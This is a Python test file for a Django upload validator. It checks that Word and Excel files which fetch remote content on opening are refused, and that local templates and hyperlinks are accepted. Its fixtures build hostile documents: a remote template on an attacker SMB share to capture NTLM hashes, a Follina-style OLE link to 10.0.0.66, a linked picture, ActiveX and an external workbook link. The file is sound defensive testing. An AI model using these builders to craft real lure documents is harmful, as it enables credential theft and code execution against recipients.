"""Office files that fetch or run something when an officer opens them (docs/security.md
R28): a Word file whose template, linked picture or embedded object lives on another machine
(`TargetMode="External"`: Word fetches it on opening, sending the officer's Windows sign-in
to a `\\\\server\\share` and opening the door to "Follina"-style remote templates), an Excel
file with links to other workbooks (refreshed on opening) and ActiveX controls. Hyperlinks
(followed only when clicked) stay allowed."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from openpyxl import Workbook

from tests.conftest import verified_client
from tests.participation.test_services import register
from thidua.core.uploads import UploadKind, check_upload
from thidua.participation.models import Activity, Evidence

OFFICE = {UploadKind.DOCX, UploadKind.XLSX}
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HYPERLINK = f"{REL}/hyperlink"


def _docx() -> bytes:
    document = Document()
    document.add_paragraph("Báo cáo kết quả phong trào thi đua")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _rewritten(data: bytes, changes: dict[str, bytes]) -> bytes:
    """`data` (a ZIP) with members replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            if item.filename not in changes:
                dst.writestr(item, src.read(item))
        for name, content in changes.items():
            dst.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _relationships(*rels: tuple[str, str, str]) -> bytes:
    body = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}" TargetMode="External"/>'
        for rid, kind, target in rels
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    ).encode()


def docx_with_remote_template() -> bytes:
    """The template Word loads on opening, on an attacker's share (the officer's NTLM hash)."""
    return _rewritten(
        _docx(),
        {
            "word/_rels/settings.xml.rels": _relationships(
                ("rId1", f"{REL}/attachedTemplate", "\\\\10.0.0.66\\mau\\bao-cao.dotm")
            )
        },
    )


def docx_with_remote_ole_object() -> bytes:
    """An OLE object Word fetches by URL (the "Follina" chain, CVE-2022-30190)."""
    data = _docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rels = archive.read("word/_rels/document.xml.rels")
    extra = (
        f'<Relationship Id="rId99" Type="{REL}/oleObject" '
        'Target="mhtml:http://10.0.0.66/x.html!x-usc:http://10.0.0.66/x.html" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    return _rewritten(
        data, {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", extra)}
    )


def docx_with_linked_picture() -> bytes:
    """A picture linked, not embedded: fetched from the address on every opening."""
    return _rewritten(
        _docx(),
        {
            "word/_rels/document.xml.rels": _relationships(
                ("rId7", f"{REL}/image", "file://10.0.0.66/anh/logo.png")
            )
        },
    )


def docx_with_activex() -> bytes:
    return _rewritten(_docx(), {"word/activeX/activeX1.xml": b"<ax:ocx/>"})


def xlsx_with_external_link() -> bytes:
    book = Workbook()
    book.active["A1"] = "Tổng hợp"
    buffer = io.BytesIO()
    book.save(buffer)
    return _rewritten(
        buffer.getvalue(),
        {
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": _relationships(
                ("rId1", f"{REL}/externalLinkPath", "\\\\10.0.0.66\\so\\tong-hop.xlsx")
            ),
        },
    )


@pytest.mark.parametrize(
    "build",
    [
        docx_with_remote_template,
        docx_with_remote_ole_object,
        docx_with_linked_picture,
        docx_with_activex,
        xlsx_with_external_link,
    ],
)
def test_an_office_file_that_reaches_out_when_opened_is_refused(build):
    with pytest.raises(ValidationError) as excinfo:
        check_upload(io.BytesIO(build()), allowed=OFFICE, name="Báo cáo.docx")
    assert excinfo.value.code == "active_office"
    assert excinfo.value.messages[0].startswith("Tệp “Báo cáo.docx” tự tải nội dung")


def test_a_word_file_made_from_a_template_on_the_officers_disk_is_accepted():
    """Word keeps the template a document was made from ("file:///C:/…"): nothing is fetched
    from another computer, and offices make their letters that way."""
    for target in ("file:///C:/Mau/Cong-van.dotx", "C:\\Mau\\Bao-cao.dotx", "Mau.dotx"):
        data = _rewritten(
            _docx(),
            {
                "word/_rels/settings.xml.rels": _relationships(
                    ("rId1", f"{REL}/attachedTemplate", target)
                )
            },
        )
        assert check_upload(io.BytesIO(data), allowed=OFFICE, name="cv.docx").content == data


def test_a_word_file_with_hyperlinks_is_accepted():
    """A link is followed only when clicked: reports cite web pages."""
    data = _docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rels = archive.read("word/_rels/document.xml.rels")
    extra = (
        f'<Relationship Id="rId99" Type="{HYPERLINK}" Target="https://bacninh.gov.vn/" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    linked = _rewritten(
        data, {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", extra)}
    )
    assert check_upload(io.BytesIO(linked), allowed=OFFICE, name="bao-cao.docx").content == linked


@pytest.mark.django_db
def test_uploading_a_word_file_with_a_remote_template_as_evidence_stores_nothing(
    campaign, officer, head, city
):
    register(campaign, officer, head, city.suoi_hoa)
    client = verified_client(officer)
    form = campaign.forms.get(code="PHOTO_EXHIBITION")
    response = client.post(
        reverse("participation:activity-create", args=[campaign.pk]),
        {
            "form": form.pk,
            "title": "Triển lãm ảnh",
            "held_on": "01/07/2022",
            "participants": 120,
            "attachments": [SimpleUploadedFile("bien-ban.docx", docx_with_remote_template())],
        },
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "Tệp “bien-ban.docx” tự tải nội dung" in page
    assert not Activity.objects.exists()
    assert not Evidence.objects.exists()
